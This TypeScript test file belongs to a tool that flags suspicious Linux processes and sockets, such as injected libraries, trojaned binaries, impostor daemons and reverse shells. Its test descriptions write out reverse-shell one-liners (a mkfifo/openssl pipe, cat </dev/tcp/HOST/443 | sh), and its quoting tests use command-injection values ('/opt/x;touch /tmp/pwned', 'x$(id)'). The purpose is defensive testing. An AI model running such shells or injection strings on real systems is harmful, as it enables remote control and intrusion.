import { describe, it } from "node:test";
import assert from "node:assert/strict";
import { ipKey } from "../../src/model/ip-number.js";
import { evaluate } from "../../src/evaluate/evaluate.js";
import { explainSocket } from "../../src/evaluate/explain.js";
import { provenanceAdvice } from "../../src/evaluate/provenance-advice.js";
import { createKnowledge } from "../../src/knowledge/knowledge.js";
import type { ProcessInfo } from "../../src/model/process.js";
import type { ForeignCode, PackageInfo, Provenance } from "../../src/model/provenance.js";
import type { Endpoint, Proto, Socket } from "../../src/model/socket.js";
import type { Verdict } from "../../src/model/verdict.js";

const knowledge = createKnowledge();

const pkg = (name: string, verified: boolean | null = true): PackageInfo => ({ name, version: "1.0-1", verified });
const prov = (extra: Partial<Provenance> = {}): Provenance => ({ database: "dpkg", writable: null, foreign: [], ...extra });
const code = (path: string, place: ForeignCode["place"], via: ForeignCode["via"] = "mapped", deleted = false): ForeignCode => ({ path, place, deleted, via });

/** A live process with provenance: packaged by default. */
function proc(name: string, exe: string, extra: Partial<ProcessInfo> = {}): ProcessInfo {
  return { pid: 4242, name, exe, exeDeleted: false, cmdline: [exe], uid: 0, user: "root", containerId: null, netns: 1, package: pkg(name), provenance: prov(), ...extra };
}
/** The process as a capture gives it: no provenance read. */
const bare = (p: ProcessInfo): ProcessInfo => { const { package: _p, provenance: _v, ...rest } = p; return rest; };
const ep = (address: string, port: number): Endpoint => ({ address, port });
function listener(p: ProcessInfo | null, address: string, port: number, proto: Proto = "tcp"): Socket {
  return {
    proto, family: 4, local: ep(address, port), remote: null, state: proto === "tcp" ? "LISTEN" : "UNCONN", direction: "listening",
    exposure: address.startsWith("127.") ? "loopback" : "all-interfaces", netns: 1, inode: 7, uid: 0, service: null, process: p,
    sharedWith: [], verdict: "unknown", reasons: [], explanation: null,
  };
}
function outbound(p: ProcessInfo | null, remote: string, port: number): Socket {
  return { ...listener(p, "192.0.2.10", 40000), remote: ep(remote, port), state: "ESTABLISHED", direction: "outbound", exposure: null };
}
const alice = { uid: 1000, user: "alice" };

// [what, socket, verdict, rules that must fire, rules that must not fire, text the provenance reason must hold]
const cases: [string, Socket, Verdict, string[], string[], RegExp?][] = [
  // modified-binary
  ["sshd whose bytes no longer match openssh-server's checksum", listener(proc("sshd", "/usr/sbin/sshd", { package: pkg("openssh-server", false) }), "0.0.0.0", 22), "suspicious", ["modified-binary"], [],
    /\/usr\/sbin\/sshd does not match the openssh-server package's checksum: a trojaned binary, or a file changed by hand/],
  ["sshd that matches its package (benign nearest)", listener(proc("sshd", "/usr/sbin/sshd", { package: pkg("openssh-server") }), "0.0.0.0", 22), "expected", ["known-service"], ["modified-binary", "name-only", "injected-library"]],
  ["a packaged program with no checksum recorded", listener(proc("sshd", "/usr/sbin/sshd", { package: pkg("openssh-server", null) }), "0.0.0.0", 22), "expected", [], ["modified-binary"]],
  // injected-library
  ["sshd with LD_PRELOAD from /dev/shm", listener(proc("sshd", "/usr/sbin/sshd", { provenance: prov({ foreign: [code("/dev/shm/libx.so", "world-writable", "LD_PRELOAD")] }) }), "0.0.0.0", 22), "suspicious", ["injected-library"], [],
    /\/dev\/shm\/libx\.so, preloaded by LD_PRELOAD from a folder anyone can write to/],
  ["node whose environment loads a module from /dev/shm (NODE_OPTIONS=--require)", outbound(proc("node", "/usr/bin/node", { cmdline: ["node", "/srv/app.js"], provenance: prov({ foreign: [code("/dev/shm/x.js", "world-writable", "environment")] }) }), "203.0.113.7", 443), "suspicious", ["injected-library"], ["usual-outbound"],
    /\/dev\/shm\/x\.js, named by the environment it started with \(NODE_OPTIONS, PYTHONPATH, BASH_ENV and the like make an interpreter load it\), from a folder anyone can write to/],
  ["sshd with a library /etc/ld.so.preload forces in", listener(proc("sshd", "/usr/sbin/sshd", { provenance: prov({ foreign: [code("/usr/lib/libhide.so", null, "ld.so.preload")] }) }), "0.0.0.0", 22), "suspicious", ["injected-library"], [], /\/etc\/ld\.so\.preload/],
  ["a library mapped from a hidden folder under /var/tmp", listener(proc("nginx", "/usr/sbin/nginx", { provenance: prov({ foreign: [code("/var/tmp/.x/libz.so", "world-writable")] }) }), "0.0.0.0", 80), "suspicious", ["injected-library"], [], /\/var\/tmp\/\.x\/libz\.so/],
  ["a library in a hidden folder of /usr/lib", listener(proc("nginx", "/usr/sbin/nginx", { provenance: prov({ foreign: [code("/usr/lib/.cache/libz.so", "hidden")] }) }), "0.0.0.0", 80), "suspicious", ["injected-library"], [], /a hidden folder/],
  ["fileless code (memfd) mapped into a daemon", listener(proc("nginx", "/usr/sbin/nginx", { provenance: prov({ foreign: [code("/memfd:x", "memfd")] }) }), "0.0.0.0", 80), "suspicious", ["injected-library"], [], /memfd/],
  ["a root daemon with a library from alice's home", listener(proc("nginx", "/usr/sbin/nginx", { provenance: prov({ foreign: [code("/home/alice/libz.so", "home")] }) }), "0.0.0.0", 80), "suspicious", ["injected-library"], [], /someone else's home directory \(\/home\/alice\)/],
  ["alice's python with a module from her own ~/.local: unknown, not suspicious", listener(proc("python3", "/usr/bin/python3.11", { ...alice, cmdline: ["python3", "/home/alice/app.py"], provenance: prov({ foreign: [code("/home/alice/.local/lib/python3.11/site-packages/x.so", "home")] }) }), "127.0.0.1", 8000), "unknown", ["injected-library"], [], /a hidden folder in alice's home directory/],
  ["a system library replaced by an upgrade: unknown, restart it", listener(proc("sshd", "/usr/sbin/sshd", { provenance: prov({ foreign: [code("/usr/lib/x86_64-linux-gnu/libssl.so.3", null, "mapped", true)] }) }), "0.0.0.0", 22), "unknown", ["injected-library"], [], /usually a package upgrade \(restart sshd/],
  ["a deleted library outside the system folders", listener(proc("nginx", "/usr/sbin/nginx", { provenance: prov({ foreign: [code("/srv/x/libz.so", null, "mapped", true)] }) }), "0.0.0.0", 80), "suspicious", ["injected-library"], [], /deleted after it was loaded/],
  // home-exe
  ["root running a program from /root with a listener on every interface", listener(proc("server", "/root/bin/server", { package: null }), "0.0.0.0", 8080), "suspicious", ["home-exe"], [], /Root runs this program from \/root\/bin\/, in a home directory, and it listens beyond this computer/],
  ["root running a program from a home directory, loopback only", listener(proc("server", "/home/alice/bin/server", { package: null }), "127.0.0.1", 8080), "unknown", ["home-exe"], [], /Root runs this program from \/home\/alice\/bin\/, in a home directory:/],
  ["root running a program that uid 1000 can replace, listening on every interface", listener(proc("server", "/opt/app/server", { package: null, provenance: prov({ writable: { path: "/opt/app/", by: "uid 1000" } }) }), "0.0.0.0", 8080), "suspicious", ["home-exe"], [], /which uid 1000 can replace \(\/opt\/app\/ is writable\)/],
  ["alice running her own program from her home: no home-exe", listener(proc("server", "/home/alice/bin/server", { ...alice, package: null }), "0.0.0.0", 8080), "unknown", [], ["home-exe"]],
  ["root's python3 running a script from alice's home, listening on every interface", listener(proc("python3", "/usr/bin/python3.11", { cmdline: ["python3", "/home/alice/srv.py"] }), "0.0.0.0", 8443), "suspicious", ["home-exe"], [],
    /Root runs this program from \/home\/alice\/, in a home directory \(the script \/home\/alice\/srv\.py, run by python3\), and it listens beyond this computer/],
  ["root's python3 running a script from /root, loopback only", listener(proc("python3", "/usr/bin/python3.11", { cmdline: ["python3", "/root/srv.py"] }), "127.0.0.1", 8443), "unknown", ["home-exe"], []],
  ["alice's python3 running her own script, listening on every interface: no home-exe", listener(proc("python3", "/usr/bin/python3.11", { ...alice, cmdline: ["python3", "/home/alice/srv.py"] }), "0.0.0.0", 8443), "unknown", [], ["home-exe"]],
  ["root's python3 running a script from /opt (benign nearest): no home-exe", listener(proc("python3", "/usr/bin/python3.11", { cmdline: ["python3", "/opt/app/srv.py"] }), "0.0.0.0", 8443), "unknown", [], ["home-exe"]],
  ["root running a packaged program nobody else can replace", listener(proc("server", "/usr/bin/server"), "0.0.0.0", 8080), "unknown", [], ["home-exe"]],
  // name-only (a name is not an identity)
  ["root's sshd run from a home directory on port 22", listener(proc("sshd", "/root/sshd", { package: null }), "0.0.0.0", 22), "suspicious", ["home-exe", "impostor"], ["known-service"]],
  ["a program in ~/.cache calling itself avahi-daemon on a random UDP port", listener(proc("avahi-daemon", "/home/alice/.cache/avahi-daemon", { ...alice, package: null }), "0.0.0.0", 41234, "udp"), "suspicious", ["impostor"], ["random-udp"],
    /goes by a daemon's name, but .*\/home\/alice\/\.cache\/avahi-daemon/],
  ["the real avahi-daemon on a random UDP port (benign nearest)", listener(proc("avahi-daemon", "/usr/sbin/avahi-daemon", { uid: 108, user: "avahi" }), "0.0.0.0", 41234, "udp"), "expected", ["random-udp"], ["impostor"]],
  ["chronyd from /usr/local on a host with dpkg: no package owns it", listener(proc("chronyd", "/usr/local/sbin/chronyd", { package: null }), "127.0.0.1", 323, "udp"), "unknown", ["impostor"], ["known-service"]],
  ["a container's nginx (another mount namespace: no package database)", listener(proc("nginx", "/usr/sbin/nginx", { package: null, provenance: prov({ database: null }) }), "0.0.0.0", 80), "expected", ["known-service"], ["impostor"]],
  ["root's sshd from a home directory in a capture (no provenance: only the path speaks)", listener(bare(proc("sshd", "/root/sshd")), "0.0.0.0", 22), "suspicious", ["home-exe", "impostor"], ["known-service", "modified-binary", "injected-library"]],
  // deleted-exe: an upgrade replaces a packaged file; a file no package owns that was deleted after it started was dropped
  ["a deleted program in /usr/bin that no installed package owns, talking out on 443", outbound(proc("sysupd", "/usr/bin/sysupd", { exeDeleted: true, package: null }), "203.0.113.7", 443), "suspicious", ["deleted-exe"], ["usual-outbound"],
    /It runs from a deleted file \(\/usr\/bin\/sysupd\) that no installed package owns, so no upgrade replaced it/],
  ["sshd replaced by an upgrade (its package still owns the path): unknown, restart it", listener(proc("sshd", "/usr/sbin/sshd", { exeDeleted: true, package: pkg("openssh-server", null) }), "0.0.0.0", 22), "unknown", ["deleted-exe"], []],
  ["a deleted daemon in a container (no package database read): unknown, as before", listener(proc("nginx", "/usr/sbin/nginx", { exeDeleted: true, package: null, provenance: prov({ database: null }) }), "0.0.0.0", 80), "unknown", ["deleted-exe"], []],
  // unpackaged-outbound
  ["a program in ~/.cache talking to a public address on 443", outbound(proc("syncd", "/home/alice/.cache/syncd", { ...alice, package: null }), "203.0.113.7", 443), "unknown", ["unpackaged-outbound"], ["usual-outbound"],
    /runs from a hidden folder \(\/home\/alice\/\.cache\/syncd\) and talks to a server on the Internet \(port 443\)/],
  ["the same program talking to the local network", outbound(proc("syncd", "/home/alice/.cache/syncd", { ...alice, package: null }), "192.168.1.7", 443), "expected", ["usual-outbound"], ["unpackaged-outbound"]],
  ["a packaged client to a public address on 443", outbound(proc("apt", "/usr/bin/apt"), "203.0.113.7", 443), "expected", ["usual-outbound"], ["unpackaged-outbound"]],
  ["a live holder whose program file could not be read, to a public address on 443", outbound(proc("systemd-helper", null as unknown as string, { package: null }), "203.0.113.7", 443), "unknown", ["unpackaged-outbound"], ["usual-outbound"],
    /its program file could not be read/],
  // an installed interpreter running a script from where no package installs: the script is the program
  ["the system python3 running a script from ~/.cache, to a public address on 443", outbound(proc("python3", "/usr/bin/python3.11", { ...alice, cmdline: ["/usr/bin/python3", "/home/alice/.cache/b.py"] }), "203.0.113.7", 443), "unknown", ["unpackaged-outbound"], ["usual-outbound"],
    /runs the script \/home\/alice\/\.cache\/b\.py from a hidden folder in a home directory, and talks to a server on the Internet \(port 443\)/],
  ["the system python3 running a script from /dev/shm, to a public address on 443", outbound(proc("python3", "/usr/bin/python3.11", { ...alice, cmdline: ["/usr/bin/python3", "/dev/shm/b.py"] }), "203.0.113.7", 443), "suspicious", ["writable-dir-exe", "unpackaged-outbound"], ["usual-outbound"],
    /Its program is the script \/dev\/shm\/b\.py, run by python3, from \/dev\/shm\/, a folder anyone can write to/],
  ["node preloading a module from /dev/shm (node -r /dev/shm/x.js /srv/app.js) to 443", outbound(proc("node", "/usr/bin/node", { ...alice, cmdline: ["node", "-r", "/dev/shm/x.js", "/srv/app.js"] }), "203.0.113.7", 443), "suspicious", ["writable-dir-exe"], ["usual-outbound"],
    /It loads code from \/dev\/shm\/x\.js \(node was told to, on its command line\), a place anyone can write to/],
  ["java with /tmp on its class path (java -cp /opt/app/lib/*:/tmp Rev) to 443", outbound(proc("java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", { ...alice, cmdline: ["java", "-cp", "/opt/app/lib/*:/tmp", "Rev"] }), "203.0.113.7", 443), "suspicious", ["writable-dir-exe"], ["usual-outbound"],
    /It loads code from \/tmp \(java was told to, on its command line\)/],
  ["java -jar a jar dropped in /dev/shm, to 443", outbound(proc("java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", { ...alice, cmdline: ["java", "-Xmx512m", "-Dx=y", "-jar", "/dev/shm/r.jar"] }), "203.0.113.7", 443), "suspicious", ["writable-dir-exe"], ["usual-outbound"],
    /Its program is the script \/dev\/shm\/r\.jar, run by java/],
  ["java running a single source file from /var/tmp (java /var/tmp/Rev.java), to 443", outbound(proc("java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", { ...alice, cmdline: ["java", "/var/tmp/Rev.java"] }), "203.0.113.7", 443), "suspicious", ["writable-dir-exe"], []],
  ["java -jar a packaged jar (/usr/share/java) to 443 (benign nearest)", outbound(proc("java", "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", { ...alice, cmdline: ["java", "-jar", "/usr/share/java/x.jar"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["writable-dir-exe", "unpackaged-outbound"]],
  ["node preloading dotenv/config (benign nearest) to 443", outbound(proc("node", "/usr/bin/node", { ...alice, cmdline: ["node", "-r", "dotenv/config", "app.js"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["writable-dir-exe"]],
  ["bash running a script from /var/tmp, listening on loopback", listener(proc("bash", "/usr/bin/bash", { ...alice, cmdline: ["bash", "/var/tmp/x.sh"] }), "127.0.0.1", 8000), "suspicious", ["writable-dir-exe"], []],
  ["the system python3 running a packaged script (unattended-upgrade) to 443 (benign nearest)", outbound(proc("python3", "/usr/bin/python3.11", { cmdline: ["/usr/bin/python3", "/usr/bin/unattended-upgrade"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["unpackaged-outbound", "writable-dir-exe"]],
  ["python3 running a script by a relative path (its folder is not known) to 443", outbound(proc("python3", "/usr/bin/python3.11", { ...alice, cmdline: ["python3", "manage.py", "runserver"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["unpackaged-outbound"]],
  // a name taken for an identity, outbound: python3 renamed sshd (prctl) calling out on 80 is not an installed sshd's connection
  ["python3 renamed sshd (prctl) connecting to a public address on 80", outbound(proc("sshd", "/usr/bin/python3.11", { ...alice, cmdline: ["/usr/bin/python3", "/opt/pw/b.py", "80"] }), "203.0.113.7", 80), "unknown", ["impostor"], ["usual-outbound"],
    /sshd \(pid 4242, \/usr\/bin\/python3\.11\) is named after sshd, a program that connects anywhere, but is not it \(its name says sshd, but its program is \/usr\/bin\/python3\.11\)/],
  ["the real ssh client to a public address on 443 (benign nearest)", outbound(proc("ssh", "/usr/bin/ssh", { ...alice, cmdline: ["ssh", "-p", "443", "host"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["impostor"]],
  ["unattended-upgrade (a packaged Python script, comm cut) to a public address on 443", outbound(proc("unattended-upgr", "/usr/bin/python3.11", { cmdline: ["/usr/bin/python3", "/usr/bin/unattended-upgrade"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["impostor"]],
  // reverse shells no shell holds: sh -i < FIFO | openssl s_client … > FIFO, cat </dev/tcp/HOST/443 | sh
  ["openssl s_client to 443 with no terminal (a mkfifo reverse shell)", outbound(proc("openssl", "/usr/bin/openssl", { ...alice, cmdline: ["openssl", "s_client", "-quiet", "-connect", "203.0.113.7:443"], tty: null }), "203.0.113.7", 443), "suspicious", ["stream-client"], ["usual-outbound"],
    /has no terminal, so nobody is typing into it: its input comes from a pipe or a file, as in the reverse shell sh -i < FIFO 2>&1 \| openssl s_client -quiet -connect HOST:PORT > FIFO/],
  ["telnet to 80 with no terminal", outbound(proc("telnet", "/usr/bin/telnet.netkit", { ...alice, cmdline: ["telnet", "203.0.113.7", "80"], tty: null }), "203.0.113.7", 80), "suspicious", ["stream-client"], ["usual-outbound"]],
  ["openssl s_client to 443 typed on a terminal (testing a TLS server): unknown, not expected", outbound(proc("openssl", "/usr/bin/openssl", { ...alice, cmdline: ["openssl", "s_client", "-connect", "203.0.113.7:443"], tty: "pts/1" }), "203.0.113.7", 443), "unknown", ["stream-client"], ["usual-outbound"]],
  ["openssl s_client to a server on the local network (benign nearest)", outbound(proc("openssl", "/usr/bin/openssl", { ...alice, cmdline: ["openssl", "s_client", "-connect", "192.168.1.7:443"], tty: null }), "192.168.1.7", 443), "expected", ["usual-outbound"], ["stream-client"]],
  ["cat holding a connection to 443 (cat </dev/tcp/HOST/443 | sh)", outbound(proc("cat", "/usr/bin/cat", { ...alice, cmdline: ["cat"], tty: null }), "203.0.113.7", 443), "suspicious", ["handed-connection"], ["usual-outbound"],
    /cat \(pid 4242, \/usr\/bin\/cat\) never opens a network connection itself, yet holds one to a server on the Internet \(port 443\)/],
  ["sleep holding a connection to 8080 (exec 3<>/dev/tcp/HOST/8080; sleep)", outbound(proc("sleep", "/usr/bin/sleep", { ...alice, cmdline: ["sleep", "600"] }), "203.0.113.7", 8080), "suspicious", ["handed-connection"], []],
  ["cat holding a TCP connection to a public DNS port (cat </dev/tcp/HOST/53 | sh): handed-connection, not only direct DNS", outbound(proc("cat", "/usr/bin/cat", { ...alice, cmdline: ["cat"] }), "203.0.113.7", 53), "suspicious", ["handed-connection"], ["direct-dns"]],
  ["cat holding a connection to a loopback health check (benign nearest)", outbound(proc("cat", "/usr/bin/cat", { ...alice, cmdline: ["cat"] }), "127.0.0.1", 8080), "unknown", [], ["handed-connection"]],
  // The installed interpreter running a script from where an administrator installs programs: its executable comes from an installed package (issue 12, item 5)
  ["the system python3 running an administrator's script from /opt, to 443 (dpkg read)", outbound(proc("python3", "/usr/bin/python3.11", { ...alice, cmdline: ["/usr/bin/python3", "/opt/x/b.py"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["unpackaged-outbound"]],
  ["the same in a capture (no package database read): the port's word, as before", outbound(bare(proc("python3", "/usr/bin/python3.11", { ...alice, cmdline: ["/usr/bin/python3", "/opt/x/b.py"] })), "203.0.113.7", 443), "expected", ["usual-outbound"], ["unpackaged-outbound"]],
  ["the system python3 running a packaged stdlib script (telnetlib) to 443 (benign nearest)", outbound(proc("python3", "/usr/bin/python3.11", { ...alice, cmdline: ["/usr/bin/python3", "/usr/lib/python3.11/telnetlib.py", "host", "443"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["unpackaged-outbound"]],
  ["a project's tool from node_modules/.bin under /srv to 443", outbound(proc("node", "/usr/bin/node", { ...alice, cmdline: ["node", "/srv/app/node_modules/.bin/next", "start"] }), "203.0.113.7", 443), "expected", ["usual-outbound"], ["unpackaged-outbound"]],
  ["the system python3 running a script from ~/.cache, to 443", outbound(proc("python3", "/usr/bin/python3.11", { ...alice, cmdline: ["/usr/bin/python3", "/home/alice/.cache/u/b.py"] }), "203.0.113.7", 443), "unknown", ["unpackaged-outbound"], ["usual-outbound"]],
];

describe("provenance rules", () => {
  for (const [what, s, verdict, fire, silent, text] of cases) {
    it(`provenance rules on ${what}: ${verdict}`, () => {
      evaluate([s], { knowledge, mode: "live-root", origin: "live" });
      const rules = s.reasons.map((r) => r.rule);
      assert.equal(s.verdict, verdict, `${s.verdict}: ${s.reasons.map((r) => `${r.rule}: ${r.message}`).join(" | ")}`);
      for (const r of fire) assert.ok(rules.includes(r), `${r} did not fire (${rules.join(", ")})`);
      for (const r of silent) assert.ok(!rules.includes(r), `${r} fired`);
      if (text) assert.match(s.reasons.filter((r) => fire.includes(r.rule)).map((r) => r.message).join(" | "), text);
    });
  }
});

describe("direct-dns and the resolver's own servers (/etc/resolv.conf)", () => {
  const dns = (address: string) => { const s = outbound(proc("curl", "/usr/bin/curl", { ...alice, cmdline: ["curl", "https://example.org/"] }), address, 53); return { ...s, proto: "udp" as const, state: "UNCONN" as const }; };
  const judged = (address: string, nameservers: string[]) => { const s = dns(address); evaluate([s], { knowledge, mode: "live-root", origin: "live", nameservers: nameservers.map((n) => ipKey(n)!) }); return s; };
  it("direct-dns leaves alone a program's own lookup to a public server the resolver is set up to ask, however it is written", () => {
    for (const written of ["203.0.113.53", "::ffff:203.0.113.53"]) {
      const s = judged("203.0.113.53", [written]);
      assert.equal(s.verdict, "expected", s.reasons.map((r) => `${r.rule}: ${r.message}`).join(" | "));
      assert.match(s.reasons.map((r) => r.message).join(" "), /a server this computer's resolver is set up to ask \(\/etc\/resolv\.conf\)/);
    }
    assert.equal(judged("2001:db8::53", ["2001:0db8:0:0:0:0:0:53"]).verdict, "expected");
  });
  it("direct-dns still calls DNS to another public server unknown, and one memo does not mix the two up", () => {
    assert.ok(judged("203.0.113.7", ["203.0.113.53"]).reasons.some((r) => r.rule === "direct-dns"));
    // same program, same port, one to the resolver's server and one not: judged apart
    const [a, b] = [dns("203.0.113.53"), dns("203.0.113.7")];
    b.process = a.process;
    evaluate([a, b], { knowledge, mode: "live-root", origin: "live", nameservers: [ipKey("203.0.113.53")!] });
    assert.deepEqual([a.verdict, b.verdict], ["expected", "unknown"]);
    assert.deepEqual([dns("203.0.113.7")].map((s) => { evaluate([s], { knowledge, mode: "live-root", origin: "live" }); return s.reasons.some((r) => r.rule === "direct-dns"); }), [true], "no resolv.conf read: as before");
  });
});

describe("provenanceAdvice", () => {
  const cases: [string, Parameters<typeof provenanceAdvice>[0], RegExp | null][] = [
    ["fileless (memfd)", { pid: 9, exe: "/memfd:x", exeDeleted: true, package: null, provenance: prov() }, /fileless \(memfd "x"/],
    ["a deleted program in /tmp", { pid: 9, exe: "/tmp/x", exeDeleted: true, package: null, provenance: prov() }, /deleted, so it is not from any package/],
    ["a home directory", { pid: 9, exe: "/home/alice/x", exeDeleted: false, package: null, provenance: prov() }, /runs from \/home\/alice\/, not from any package/],
    ["/tmp from a capture (no provenance)", { pid: 9, exe: "/tmp/x", exeDeleted: false }, /not from any package/],
    ["a packaged, verified program", { pid: 9, exe: "/usr/sbin/sshd", exeDeleted: false, package: pkg("openssh-server"), provenance: prov() }, /comes from the openssh-server package \(version 1\.0-1\), and its bytes match/],
    ["a modified packaged program", { pid: 9, exe: "/usr/sbin/sshd", exeDeleted: false, package: pkg("openssh-server", false), provenance: prov() }, /do NOT match/],
    ["an unowned program where dpkg was asked", { pid: 9, exe: "/opt/x/y", exeDeleted: false, package: null, provenance: prov() }, /no installed package owns \/opt\/x\/y/],
    ["an ordinary path from a capture: the caller's advice", { pid: 9, exe: "/opt/x/y", exeDeleted: false }, null],
  ];
  for (const [what, p, want] of cases) {
    it(`provenanceAdvice for ${what}`, () => {
      const advice = provenanceAdvice(p);
      if (want === null) assert.equal(advice, null); else { assert.match(advice ?? "", want); assert.doesNotMatch(advice ?? "", /dpkg -S|rpm -qf/); }
    });
  }
  it("explainSocket never offers dpkg -S for a program no package can own", () => {
    for (const exe of ["/home/alice/x", "/tmp/x", "/memfd:x", "/dev/shm/x"]) {
      const s = listener({ ...proc("x", exe, { package: null }), exeDeleted: exe.startsWith("/memfd:") }, "127.0.0.1", 47111);
      assert.doesNotMatch(explainSocket(s, knowledge, "live"), /dpkg -S/, exe);
    }
    const packaged = listener(bare(proc("x", "/opt/x/x")), "127.0.0.1", 47111);
    assert.match(explainSocket(packaged, knowledge, "linux-capture"), /dpkg -S \/opt\/x\/x/);
  });
  it("explainSocket and provenanceAdvice shell-quote every path and package name in the commands they suggest", () => {
    const evil = "/opt/x;touch /tmp/pwned";
    assert.match(explainSocket(listener(bare(proc("x", evil)), "127.0.0.1", 47111), knowledge, "linux-capture"), /"dpkg -S '\/opt\/x;touch \/tmp\/pwned'" or "rpm -qf '\/opt\/x;touch \/tmp\/pwned'"/);
    assert.match(provenanceAdvice({ pid: 9, exe: "/tmp/it's;id", exeDeleted: false }) ?? "", /"ls -l '\/tmp\/it'\\''s;id'"/);
    assert.match(provenanceAdvice({ pid: 9, exe: evil, exeDeleted: false, package: null, provenance: prov() }) ?? "", /"ls -l '\/opt\/x;touch \/tmp\/pwned'"/);
    assert.match(provenanceAdvice({ pid: 9, exe: "/usr/sbin/x", exeDeleted: false, package: pkg("x$(id)", false), provenance: prov() }) ?? "", /"dpkg --verify 'x\$\(id\)'"/);
  });
});
